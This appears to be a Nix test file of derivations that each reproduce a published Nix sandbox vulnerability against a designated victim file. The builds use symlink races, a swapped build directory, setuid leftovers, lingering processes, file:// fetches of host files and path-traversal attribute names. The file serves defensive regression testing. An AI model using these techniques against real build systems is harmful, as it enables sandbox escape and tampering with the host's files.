# Builds that do what advisories on Nix tell of. In what they write, `$victim` is a file of the
# machine's that they must not come to change.
{ busybox, victim }:
let
  bb = builtins.storePath busybox;
  shell = import ../../helpers/shell.nix { inherit busybox; };
  # What goes wrong in it is what it is to try.
  drv =
    name: script: attrs:
    shell name script (
      {
        args = [
          "-uc"
          script
        ];
        inherit victim;
      }
      // attrs
    );
  fixed = {
    outputHashMode = "flat";
    outputHashAlgo = "sha256";
    outputHash = builtins.hashString "sha256" "content\n";
  };
in
{
  # CVE-2024-27297
  passes-its-output = drv "passes-its-output" "echo content > $out; attack give droste-advisory $out" fixed;

  # CVE-2024-38531, CVE-2025-53819: looked at from outside, while it waits
  waits = drv "waits" ''
    echo '#!/bin/sh' > /build/program; chmod 4777 /build/program && echo 'a set-user-id program'
    touch /build/is-there; chmod 777 /build /build/program
    echo begun
    n=0; while [ $n -lt 600 ]; do sleep 0.1; n=$((n + 1)); done
    echo > $out
  '' { };

  # CVE-2025-46416
  stays-behind = drv "stays-behind" ''
    (setsid sleep 4391 > /dev/null 2>&1 < /dev/null &)
    (setsid sh -c 'trap "" TERM HUP INT; sleep 4391; :' > /dev/null 2>&1 < /dev/null &)
    echo content > $out
  '' fixed;

  # CVE-2025-52992
  fails-with-open-modes = drv "fails-with-open-modes" ''
    mkdir -p $out/sub; echo program > $out/sub/f; chmod 777 $out $out/sub $out/sub/f; chmod g+s $out/sub
    exit 1
  '' { };

  # CVE-2025-52993: what is to be made its executor's, or its user's, is something else by then
  links-to-the-machine = drv "links-to-the-machine" ''
    (while :; do
      rm -rf $out 2> /dev/null; ln -s $victim $out 2> /dev/null
      rm -rf $out 2> /dev/null; mkdir -p $out; ln -s $victim $out/f; ln $out/f $out/hard
    done) &
    sleep 0.3; kill $!; wait
    rm -rf $out; mkdir $out; ln -s $victim $out/f; ln -s ${builtins.dirOf victim} $out/d
  '' { };
  is-a-link = drv "is-a-link" "ln -s $victim $out" { };
  replaces-its-directory = drv "replaces-its-directory" ''
    cd /; rm -rf /build/* /build; ln -s ${builtins.dirOf victim} /build; ls -ld /build
    mkdir /tmp/x; ln -s ${builtins.dirOf victim} /tmp/x/build
    exit 1
  '' { };

  # CVE-2026-39860: links wherever something of the executor's could come to lie
  lays-links = drv "lays-links" ''
    echo content > $out
    for dir in / /build /tmp /nix /nix/store /own /root; do
      for name in out .out own tmp lock "$(basename $out)" ".$(basename $out)" "$(basename $out).tmp" "$(basename $out).check" .tmp-out; do
        [ -e $dir/$name ] || ln -s $victim $dir/$name 2> /dev/null
      done
    done
    :
  '' fixed;

  # CVE-2024-51481: a builtin builder sees what any builder sees
  fetches-of-the-machine = derivation {
    name = "fetches-of-the-machine";
    system = "builtin";
    builder = "builtin:fetchurl";
    url = "file://${victim}";
    outputHash = builtins.hashString "sha256" "precious\n";
    outputHashAlgo = "sha256";
    outputHashMode = "flat";
  };

  # Nix's issue 15743
  lists-attributes = drv "lists-attributes" "attack list - ${bb} > $out; attack list - /build >> $out" { };

  # Names of files that the executor is to make for the builder
  climbing-graph = drv "climbing-graph" "echo > $out" {
    exportReferencesGraph = [
      "../../../../../../../../../../../../../../${victim}"
      bb
    ];
  };
  climbing-attribute = drv "climbing-attribute" "cat \"$(env | sed -n 's/^.*preciousPath=//p')\" > $out" {
    passAsFile = [ "../../../../..${victim}" ];
    "../../../../..${victim}" = "overwritten";
  };
}
